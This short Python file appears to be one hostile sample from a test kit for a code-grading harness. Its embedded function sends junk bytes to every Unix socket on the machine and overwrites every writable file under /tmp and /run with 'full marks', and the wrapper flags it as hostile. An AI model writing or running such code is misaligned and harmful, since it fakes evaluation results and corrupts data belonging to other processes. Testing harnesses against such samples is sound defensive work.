"""Writes to every socket, pipe and connection file that it can find, to speak for others or to the grader."""

WORST_CASE_SHIFT = r"""# @worst_case_shift
import glob
import os
import socket


def worst_case_shift(w, eps):
    for line in open("/proc/net/unix").readlines()[1:]:
        name = line.split()[-1]
        for address in (name.replace("@", "\0", 1), name):
            try:
                with socket.socket(socket.AF_UNIX) as there:
                    there.settimeout(0.2)
                    there.connect(address)
                    there.sendall(b"\0" * 64)
            except OSError:
                pass
    for path in glob.glob("/tmp/**/*", recursive=True) + glob.glob("/run/**/*", recursive=True):
        try:
            with open(path, "r+b", buffering=0) as there:
                there.write(b"full marks")
        except OSError:
            pass
    raise LookupError("nobody answered")
"""


def submission(kit):
    return kit.replacing(
        __name__, __doc__, WORST_CASE_SHIFT, flag="uses the network (socket", hostile=True
    )
